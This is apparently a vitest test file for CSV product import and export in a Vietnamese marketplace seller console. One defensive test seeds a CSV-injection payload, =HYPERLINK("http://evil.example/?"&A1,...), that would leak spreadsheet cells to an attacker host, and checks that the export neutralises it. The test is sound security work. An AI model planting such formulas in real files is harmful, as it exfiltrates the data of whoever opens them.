import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import { describe, expect, it } from "vitest";
import { commitImport, planImport } from "~/catalog/csv.server";
import { makeGtin13 } from "~/domain/gs1";
import { action as csvAction, loader as csvLoader } from "~/routes/console.stalls.$stallId.csv";
import { loader as exportLoader } from "~/routes/console.stalls.$stallId.products[.]csv";
import { prisma } from "~/utils/db.server";
import { client, get, post, settle } from "../../tests/helpers/http";
import { uid } from "../../tests/helpers/seller";

const MANAGER = "0912000003";
const HH2 = "0913000002";
const args = (request: Request, params: Record<string, string> = {}) => ({
  request,
  params,
  context: {},
});
const status = (r: unknown) =>
  r instanceof Response ? r.status : ((r as { init?: { status?: number } }).init?.status ?? 200);
type Result = {
  data: {
    error: string | null;
    csv: string | null;
    plan: {
      summary: { rows: number; create: number; update: number; problems: number };
      rows: { line: number; problems: { key: string }[] }[];
    } | null;
    done: { rows: number; create: number; update: number } | null;
  };
};
const csvFile = (text: string) => new File([text], "san-pham.csv", { type: "text/csv" });

function fiftyProducts(tag: string, badLine?: number, sep = ";") {
  const head = [
    "name",
    "category",
    "status",
    "producer_household_id",
    "description",
    "variant_label",
    "weight_grams",
    "price_vnd",
    "stock",
    "sku",
  ].join(sep);
  const rows = Array.from({ length: 50 }, (_, i) => {
    const price = i + 2 === badLine ? "hai trăm nghìn" : `${120 + i}.000`;
    return [
      `Chè ${tag} số ${i + 1}`,
      "che",
      "DRAFT",
      "hh-002",
      `"Chè búp, sao tay; mẻ ${i + 1}"`,
      "Túi 200 g",
      "200",
      price,
      String(10 + i),
      `${tag}-${i + 1}`,
    ].join(sep);
  });
  return "\uFEFF" + [head, ...rows].join("\r\n") + "\r\n";
}

describe("CSV import", () => {
  it("a manager imports 50 products: the bad row is reported and nothing is written until it is fixed", async () => {
    const m = await client(MANAGER);
    const tag = uid("csv");
    const stall = "stall-coop-hao-dat";
    const count = () =>
      prisma.product.count({ where: { stallId: stall, name: { startsWith: `Chè ${tag} ` } } });

    const bad = (await settle(() =>
      csvAction(
        args(post(m, "/x", { intent: "preview", file: csvFile(fiftyProducts(tag, 8)) }), {
          stallId: stall,
        }),
      ),
    )) as Result;
    expect(status(bad)).toBe(422);
    expect(bad.data.plan!.summary).toMatchObject({ rows: 50, problems: 1 });
    const problems = bad.data.plan!.rows.filter((r) => r.problems.length);
    expect(problems).toEqual([
      {
        line: 8,
        name: `Chè ${tag} số 7`,
        label: "Túi 200 g",
        action: null,
        problems: [{ key: "listing.priceInvalid" }],
      },
    ]);
    expect(bad.data.csv).toBeNull(); // no commit offered
    // forcing a commit of the bad file writes nothing either
    const forced = await settle(() =>
      csvAction(
        args(post(m, "/x", { intent: "commit", csv: fiftyProducts(tag, 8) }), { stallId: stall }),
      ),
    );
    expect(status(forced)).toBe(422);
    expect(await count()).toBe(0);

    const good = (await settle(() =>
      csvAction(
        args(post(m, "/x", { intent: "preview", file: csvFile(fiftyProducts(tag)) }), {
          stallId: stall,
        }),
      ),
    )) as Result;
    expect(good.data.plan!.summary).toEqual({ rows: 50, create: 50, update: 0, problems: 0 });
    expect(await count()).toBe(0); // the dry run wrote nothing
    const done = (await settle(() =>
      csvAction(args(post(m, "/x", { intent: "commit", csv: good.data.csv! }), { stallId: stall })),
    )) as Result;
    expect(done.data.done).toEqual({ rows: 50, create: 50, update: 0, problems: 0 });
    expect(await count()).toBe(50);
    const one = await prisma.product.findFirstOrThrow({
      where: { name: `Chè ${tag} số 3` },
      include: { variants: true },
    });
    expect(one).toMatchObject({
      householdId: "hh-002",
      status: "DRAFT",
      description: "Chè búp, sao tay; mẻ 3",
      categoryId: "cat-che",
    });
    expect(one.variants.map((v) => [v.label, v.priceVnd, v.stock, v.sku, v.weightGrams])).toEqual([
      ["Túi 200 g", 122000, 12, `${tag}-3`, 200],
    ]);
    const log = await prisma.auditLog.findFirstOrThrow({
      where: { entityId: one.id, action: "product.import.create" },
    });
    expect(log).toMatchObject({ actorId: m.userId, onBehalfOfId: "hh-002" });
    expect(await prisma.outbox.count({ where: { topic: "search.product", key: one.id } })).toBe(1);
  });

  it("re-importing the exported file updates, never duplicates", async () => {
    const c = await client("0913000012"); // hh-012
    const stall = "stall-hh-012";
    // a draft without any pack size yet exports as a product-only row and re-imports cleanly
    await prisma.product.create({
      data: {
        stallId: stall,
        householdId: "hh-012",
        slug: uid("draft-no-variants"),
        name: `Nháp chưa có giá ${uid()}`,
      },
    });
    const res = (await exportLoader(
      args(get(c, `/console/stalls/${stall}/products.csv`), { stallId: stall }),
    )) as Response;
    expect(res.headers.get("Content-Type")).toMatch(/text\/csv/);
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // UTF-8 BOM for Excel
    const text = bytes.toString("utf8");
    const products = await prisma.product.count({ where: { stallId: stall } });
    const variants = await prisma.variant.count({ where: { product: { stallId: stall } } });
    // change one price in the exported file (Excel would keep the rest as is)
    const records = parse(text.replace(/^\uFEFF/, ""), { columns: true }) as Record<
      string,
      string
    >[];
    const target = records.find((r) => r.sku.startsWith("PROD-"))!;
    const sku = target.sku;
    target.price_vnd = "99.000";
    const edited = "\uFEFF" + stringify(records, { header: true, delimiter: ";" }); // Excel in a Vietnamese locale
    const plan = (await settle(() =>
      csvAction(
        args(post(c, "/x", { intent: "preview", file: csvFile(edited) }), { stallId: stall }),
      ),
    )) as Result;
    expect(plan.data.plan!.summary).toMatchObject({ create: 0, problems: 0 });
    const done = (await settle(() =>
      csvAction(args(post(c, "/x", { intent: "commit", csv: plan.data.csv! }), { stallId: stall })),
    )) as Result;
    expect(done.data.done!.create).toBe(0);
    expect(await prisma.product.count({ where: { stallId: stall } })).toBe(products);
    expect(await prisma.variant.count({ where: { product: { stallId: stall } } })).toBe(variants);
    expect((await prisma.variant.findFirstOrThrow({ where: { sku } })).priceVnd).toBe(99000);
  });

  it("stock in an exported file is read against stock_base: sales since the export are not undone", async () => {
    const c = await client("0913000016"); // hh-016
    const stall = "stall-hh-016";
    const p = await prisma.product.create({
      data: {
        stallId: stall,
        householdId: "hh-016",
        slug: uid("stock"),
        name: `Mật ong ${uid()}`,
        variants: {
          create: [{ label: "Chai 500 ml", priceVnd: 150000, stock: 10, sku: uid("SKU") }],
        },
      },
      include: { variants: true },
    });
    const v = p.variants[0];
    const exported = Buffer.from(
      await (
        (await exportLoader(
          args(get(c, `/console/stalls/${stall}/products.csv`), { stallId: stall }),
        )) as Response
      ).arrayBuffer(),
    )
      .toString("utf8")
      .replace(/^\uFEFF/, "");
    const records = parse(exported, { columns: true }) as Record<string, string>[];
    const row = records.find((r) => r.sku === v.sku)!;
    expect(row).toMatchObject({ stock: "10", stock_base: "10" });
    // three bottles sell while the file is open in Excel
    await prisma.variant.update({ where: { id: v.id }, data: { stock: { decrement: 3 } } });
    const importFile = async (edit: (r: Record<string, string>) => void) => {
      const copy = records.map((r) => ({ ...r }));
      edit(copy.find((r) => r.sku === v.sku)!);
      const plan = (await settle(() =>
        csvAction(
          args(
            post(c, "/x", { intent: "preview", file: csvFile(stringify(copy, { header: true })) }),
            { stallId: stall },
          ),
        ),
      )) as Result;
      expect(plan.data.plan!.summary.problems).toBe(0);
      await settle(() =>
        csvAction(
          args(post(c, "/x", { intent: "commit", csv: plan.data.csv! }), { stallId: stall }),
        ),
      );
      return (await prisma.variant.findUniqueOrThrow({ where: { id: v.id } })).stock;
    };
    expect(
      await importFile((r) => {
        r.price_vnd = "160000";
      }),
    ).toBe(7); // price changed, stock untouched: the 3 sales stay
    expect(
      await importFile((r) => {
        r.stock = "15";
      }),
    ).toBe(12); // 5 more bottles counted in
    expect(
      await importFile((r) => {
        r.stock = "4";
        r.stock_base = "";
      }),
    ).toBe(4); // no base: as written
  });

  it("export cannot smuggle a spreadsheet formula (=, +, -, @ cells are written as text) and still re-imports unchanged", async () => {
    const c = await client("0913000014"); // hh-014
    const stall = "stall-hh-014";
    const name = `=HYPERLINK("http://evil.example/?"&A1,"Chè") ${uid()}`;
    const p = await prisma.product.create({
      data: {
        stallId: stall,
        householdId: "hh-014",
        slug: uid("formula"),
        name,
        description: "@SUM(1+1)",
        variants: { create: [{ label: "+Túi 200 g", priceVnd: 100000, stock: 3, sku: "-A1" }] },
      },
    });
    const res = (await exportLoader(
      args(get(c, `/console/stalls/${stall}/products.csv`), { stallId: stall }),
    )) as Response;
    const text = Buffer.from(await res.arrayBuffer())
      .toString("utf8")
      .replace(/^\uFEFF/, "");
    const row = (parse(text, { columns: true }) as Record<string, string>[]).find(
      (r) => r.product_slug === p.slug,
    )!;
    expect(row).toMatchObject({
      name: `'${name}`,
      description: "'@SUM(1+1)",
      variant_label: "'+Túi 200 g",
      sku: "'-A1",
    });
    // no cell of the file starts a formula
    for (const r of parse(text, { columns: false, from_line: 2 }) as string[][])
      for (const cell of r) expect(cell).not.toMatch(/^[=+\-@]/);
    const products = await prisma.product.count({ where: { stallId: stall } });
    const plan = (await settle(() =>
      csvAction(
        args(post(c, "/x", { intent: "preview", file: csvFile("\uFEFF" + text) }), {
          stallId: stall,
        }),
      ),
    )) as Result;
    expect(plan.data.plan!.summary).toMatchObject({ create: 0, problems: 0 });
    await settle(() =>
      csvAction(args(post(c, "/x", { intent: "commit", csv: plan.data.csv! }), { stallId: stall })),
    );
    expect(await prisma.product.count({ where: { stallId: stall } })).toBe(products);
    const after = await prisma.product.findUniqueOrThrow({
      where: { id: p.id },
      include: { variants: true },
    });
    expect(after).toMatchObject({ name, description: "@SUM(1+1)" });
    expect(after.variants.map((v) => [v.label, v.sku])).toEqual([["+Túi 200 g", "-A1"]]);
  });

  it("reports unknown categories, non-members, bad GTINs, missing columns, comma files", async () => {
    const m = await client(MANAGER);
    const tag = uid("csv");
    const text = [
      "name,category,producer_household_id,variant_label,price_vnd,gtin",
      `Chè ${tag} A,khong-co,hh-002,Túi,100k,`,
      `Chè ${tag} B,che,hh-059,Túi,100k,`,
      `Chè ${tag} C,che,hh-002,Túi,100k,4006381333932`,
    ].join("\n");
    const r = (await settle(() =>
      csvAction(
        args(post(m, "/x", { intent: "preview", file: csvFile(text) }), {
          stallId: "stall-coop-hao-dat",
        }),
      ),
    )) as Result;
    expect(r.data.plan!.rows.map((x) => x.problems.map((p) => p.key))).toEqual([
      ["csv.categoryUnknown"],
      ["csv.producerInvalid"],
      ["listing.gtinInvalid"],
    ]);
    const missing = (await settle(() =>
      csvAction(
        args(post(m, "/x", { intent: "preview", file: csvFile("name;gia\nChè;1000\n") }), {
          stallId: "stall-coop-hao-dat",
        }),
      ),
    )) as Result;
    expect(missing.data.plan!.summary.problems).toBeGreaterThan(0);
  });

  it("the commit is all-or-nothing: a conflict found while writing rolls every row back", async () => {
    const m = await client(MANAGER);
    const stallRow = await prisma.stall.findUniqueOrThrow({ where: { id: "stall-coop-hao-dat" } });
    const tag = uid("csv");
    const gtin = makeGtin13(`8935${String(Date.now()).slice(-8)}`);
    const text = [
      "name,producer_household_id,variant_label,price_vnd,gtin",
      `Chè ${tag} 1,hh-002,Túi,100k,`,
      `Chè ${tag} 2,hh-002,Túi,100k,${gtin}`,
    ].join("\n");
    const plan = await planImport(stallRow, text);
    expect(plan.summary.problems).toBe(0);
    // someone else takes the GTIN between the dry run and the commit
    const v = await prisma.variant.findFirstOrThrow({
      where: { gtin: null, product: { stallId: "stall-hh-001" } },
    });
    await prisma.variant.update({ where: { id: v.id }, data: { gtin: "0" + gtin } });
    const user = {
      id: m.userId!,
      role: "COOP_MANAGER" as const,
      householdId: null,
      cooperativeId: "coop-hao-dat",
      name: "m",
      phone: MANAGER,
      locale: "vi",
    };
    await expect(commitImport(user, stallRow, plan)).rejects.toThrow();
    expect(await prisma.product.count({ where: { name: { startsWith: `Chè ${tag}` } } })).toBe(0);
    await prisma.variant.update({ where: { id: v.id }, data: { gtin: null } });
  });

  it("ownership: another household cannot import into or export this stall", async () => {
    const other = await client(HH2);
    expect(
      status(await settle(() => exportLoader(args(get(other, "/x"), { stallId: "stall-hh-001" })))),
    ).toBe(403);
    expect(
      status(await settle(() => csvLoader(args(get(other, "/x"), { stallId: "stall-hh-001" })))),
    ).toBe(403);
    const name = `Chè lạ ${uid()}`;
    const r = await settle(() =>
      csvAction(
        args(
          post(other, "/x", {
            intent: "commit",
            csv: `name,variant_label,price_vnd\n${name},Túi,100000\n`,
          }),
          { stallId: "stall-hh-001" },
        ),
      ),
    );
    expect(status(r)).toBe(403);
    expect(await prisma.product.count({ where: { name } })).toBe(0);
  });
});
